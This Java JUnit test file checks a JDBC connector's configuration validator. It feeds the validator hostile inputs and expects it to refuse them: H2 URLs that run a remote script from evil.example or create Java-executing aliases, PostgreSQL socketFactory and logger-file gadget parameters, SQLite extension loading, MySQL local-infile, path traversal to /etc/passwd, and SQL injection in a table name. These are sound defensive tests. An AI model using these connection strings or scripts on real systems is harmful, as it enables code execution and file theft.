package dev.steward.connector.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import dev.steward.plugin.ConfigProblem;
import dev.steward.plugin.ConnectorFactory;
import dev.steward.plugin.EntityConfig;
import dev.steward.plugin.SystemConfig;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.ServiceLoader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcConnectorFactoryTest {

    private final JdbcConnectorFactory factory = new JdbcConnectorFactory();

    @TempDir
    Path workspace;

    @Test
    void isFoundByServiceLoader() {
        assertThat(ServiceLoader.load(ConnectorFactory.class).stream().map(p -> p.get().type()))
                .contains("jdbc");
    }

    @Test
    void theExampleErpIsValid() {
        Map<String, Object> settings = Map.of("url", "jdbc:h2:./data/erp", "init", "systems/erp.sql",
                "poolSize", 3, "user", "sa", "password", "", "connectTimeout", "2s");
        assertThat(factory.validate(system(settings, Map.of("table", "customers", "key", "crm_id"),
                Map.of("email", "email", "creditLimit", "credit_limit")))).isEmpty();
        assertThat(factory.validate(system(settings, Map.of("table", "public.customers", "key", "crm_id"),
                Map.of()))).isEmpty();
    }

    @Test
    void urlIsRequiredAndMustBeJdbc() {
        assertThat(factory.validate(system(Map.of(), validEntity(), Map.of())))
                .extracting(ConfigProblem::path).containsExactly("url");
        assertThat(factory.validate(system(Map.of("url", "postgres://db/erp"), validEntity(), Map.of())))
                .containsExactly(new ConfigProblem("url", "url must be a JDBC URL starting with jdbc:"));
    }

    @Test
    void tableAndKeyAreRequired() {
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x"), Map.of(), Map.of())))
                .extracting(ConfigProblem::path)
                .containsExactly("entities.customer.table", "entities.customer.key");
    }

    @Test
    void namesThatAreNotPlainIdentifiersAreRefused() {
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x"),
                Map.of("table", "customers; DROP TABLE x", "key", "crm id"),
                Map.of("creditLimit", "credit-limit", "email", "properties.email"))))
                .extracting(ConfigProblem::path)
                .containsExactlyInAnyOrder("entities.customer.table", "entities.customer.key",
                        "entities.customer.fields.creditLimit", "entities.customer.fields.email");
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x"),
                Map.of("table", "a.b.c", "key", "id"), Map.of())))
                .containsExactly(new ConfigProblem("entities.customer.table",
                        "'a.b.c' is not a plain table name: use letters, digits and _, starting with a letter "
                                + "or _, at most 63 characters (optionally schema.table)"));
    }

    @Test
    void initMustStayInsideTheWorkspace() {
        for (String init : new String[] {"../secrets.sql", "/etc/passwd", ""}) {
            assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x", "init", init), validEntity(),
                    Map.of()))).extracting(ConfigProblem::path).containsExactly("init");
        }
    }

    @Test
    void poolSizeAndConnectTimeoutMustMakeSense() {
        Map<String, Object> settings = new HashMap<>();
        settings.put("url", "jdbc:h2:mem:x");
        settings.put("poolSize", 0);
        settings.put("connectTimeout", "10ms");
        assertThat(factory.validate(system(settings, validEntity(), Map.of())))
                .extracting(ConfigProblem::path).containsExactly("poolSize", "connectTimeout");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:erp;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
            "jdbc:h2:./data/erp;TRACE_LEVEL_FILE=3",
            "jdbc:h2:./data/erp;MODE=PostgreSQL;auto_server=TRUE",
            "jdbc:h2:./data/erp;init=CREATE ALIAS EXEC AS 'x'",
            "jdbc:postgresql://db/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "jdbc:postgresql://db/erp?ssl=true&sslfactory=x.Y",
            "jdbc:postgresql://db/erp?loggerFile=/tmp/x&loggerLevel=DEBUG",
            "jdbc:postgresql://db/erp?socket%46actory=x.Y",
            "jdbc:postgresql://db/erp?options=-c%20log_statement%3Dall",
            "jdbc:sqlite:data/erp.db?enable_load_extension=true",
            "jdbc:mysql://db/erp?allowLoadLocalInfile=true"})
    void urlParametersOutsideTheAllowlistAreRefused(String url) {
        assertThat(factory.validate(system(Map.of("url", url), validEntity(), Map.of())))
                .singleElement().satisfies(p -> {
                    assertThat(p.path()).isEqualTo("url");
                    assertThat(p.message()).containsAnyOf("not allowed", "only for h2, postgresql and sqlite");
                });
    }

    @Test
    void theRefusalNamesTheParameterAndWhatIsAllowed() {
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:./data/erp;INIT=RUNSCRIPT FROM 'x.sql'"),
                validEntity(), Map.of())))
                .extracting(ConfigProblem::message).singleElement().asString()
                .startsWith("H2 URL parameter INIT is not allowed; allowed are ")
                .contains("DB_CLOSE_DELAY", "MODE").doesNotContain("AUTO_SERVER");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:./data/erp;MODE=PostgreSQL;DB_CLOSE_DELAY=-1",
            "jdbc:h2:mem:erp;mode=MySQL",
            "jdbc:postgresql://db:5432/erp?sslmode=verify-full&currentSchema=erp&ApplicationName=steward",
            "jdbc:postgresql://db/erp",
            "jdbc:sqlite:data/erp.db?journal_mode=WAL&busy_timeout=5000",
            "jdbc:sqlite::memory:",
            "jdbc:sqlserver://db:1433"})
    void allowedParametersPass(String url) {
        assertThat(factory.validate(system(Map.of("url", url), validEntity(), Map.of()))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:/tmp/erp",
            "jdbc:h2:file:/var/lib/erp",
            "jdbc:h2:~/erp",
            "jdbc:h2:./erp",
            "jdbc:h2:./data/../../erp",
            "jdbc:h2:zip:./data/erp.zip!/erp",
            "jdbc:h2:split:./data/erp",
            "jdbc:sqlite:/tmp/erp.db",
            "jdbc:sqlite:data/../erp.db",
            "jdbc:sqlite:file:/tmp/erp.db",
            "jdbc:sqlite::resource:http://127.0.0.1:9/erp.db"})
    void embeddedDatabaseFilesStayUnderData(String url) {
        assertThat(factory.validate(system(Map.of("url", url), validEntity(), Map.of()), workspace))
                .singleElement().satisfies(p -> {
                    assertThat(p.path()).isEqualTo("url");
                    assertThat(p.message()).containsAnyOf("outside the workspace's data/ folder", "climbs out with '..'",
                            "is not allowed");
                });
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:./data/erp", "jdbc:h2:file:./data/sub/erp", "jdbc:h2:mem:erp",
            "jdbc:h2:tcp://127.0.0.1:9092/erp", "jdbc:sqlite:data/erp.db", "jdbc:sqlite::memory:",
            "jdbc:postgresql://127.0.0.1/erp"})
    void filesUnderDataAndDatabasesInMemoryOrOnAServerPass(String url) {
        assertThat(factory.validate(system(Map.of("url", url), validEntity(), Map.of()), workspace)).isEmpty();
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:" + workspace.resolve("data/erp")), validEntity(),
                Map.of()), workspace)).isEmpty();
    }

    @Test
    void anAbsolutePathOutsideDataNeedsToBeAllowedAndDotDotNeverPasses() {
        Map<String, Object> allowed = Map.of("url", "jdbc:h2:/srv/erp/db", "allowPathOutsideData", true);
        assertThat(factory.validate(system(allowed, validEntity(), Map.of()), workspace)).isEmpty();
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:/srv/../etc/db", "allowPathOutsideData", true),
                validEntity(), Map.of()), workspace)).extracting(ConfigProblem::message).singleElement().asString()
                .contains("climbs out with '..'");
    }

    @Test
    void aMissingInitScriptIsFoundWithoutConnecting() {
        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x", "init", "systems/missing.sql"), validEntity(),
                Map.of()), workspace)).containsExactly(new ConfigProblem("init",
                "init script systems/missing.sql does not exist in the workspace"));
    }

    @Test
    void anInitScriptThatRunsCodeIsReportedAtItsOwnLine() throws java.io.IOException {
        java.nio.file.Files.createDirectories(workspace.resolve("systems"));
        java.nio.file.Files.writeString(workspace.resolve("systems/erp.sql"),
                "CREATE TABLE t (id INT);\n\nCREATE /**/ ALIAS X FOR \"java.lang.Runtime.exec\";\n");

        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x", "init", "systems/erp.sql"), validEntity(),
                Map.of()), workspace)).singleElement().satisfies(p -> {
                    assertThat(p.file()).isEqualTo("systems/erp.sql");
                    assertThat(p.line()).isEqualTo(3);
                    assertThat(p.column()).isEqualTo(1);
                    assertThat(p.message()).startsWith("CREATE ALIAS runs Java code");
                });
    }

    @Test
    void anInitScriptThatLinksOutOfTheWorkspaceIsRefused() throws java.io.IOException {
        Path outside = java.nio.file.Files.writeString(workspace.getParent().resolve("outside-" + workspace.getFileName()
                + ".sql"), "CREATE TABLE t (id INT);");
        java.nio.file.Files.createSymbolicLink(workspace.resolve("linked.sql"), outside);

        assertThat(factory.validate(system(Map.of("url", "jdbc:h2:mem:x", "init", "linked.sql"), validEntity(),
                Map.of()), workspace)).extracting(ConfigProblem::message).singleElement().asString()
                .contains("links to a file outside the workspace");
    }

    private static Map<String, Object> validEntity() {
        return Map.of("table", "customers", "key", "crm_id");
    }

    private static SystemConfig system(Map<String, Object> settings, Map<String, Object> entitySettings,
                                       Map<String, String> fields) {
        EntityConfig entity = new EntityConfig("customer", entitySettings, fields);
        return new SystemConfig("erp", "jdbc", settings, Map.of("customer", entity));
    }

    @Test
    void postgresqlBatchesAreSentAsMultiRowInsertsUnlessTheUrlSaysOtherwise() {
        JdbcSettings pg = new JdbcSettings("jdbc:postgresql://127.0.0.1:5432/erp", "erp", null, null, 2,
                JdbcSettings.DEFAULT_CONNECT_TIMEOUT);
        assertThat(JdbcConnectorFactory.poolConfig("erp", pg, pg.url()).getDataSourceProperties())
                .containsEntry("reWriteBatchedInserts", "true");
        // a default only: pgjdbc reads the URL's parameters over the properties it is given
        java.util.Properties given = new java.util.Properties();
        given.setProperty("reWriteBatchedInserts", "true");
        assertThat(org.postgresql.Driver.parseURL("jdbc:postgresql://127.0.0.1:5432/erp?reWriteBatchedInserts=false", given))
                .containsEntry("reWriteBatchedInserts", "false");
        JdbcSettings h2 = new JdbcSettings("jdbc:h2:mem:erp", null, null, null, 2, JdbcSettings.DEFAULT_CONNECT_TIMEOUT);
        assertThat(JdbcConnectorFactory.poolConfig("erp", h2, h2.url()).getDataSourceProperties()).isEmpty();
    }
}
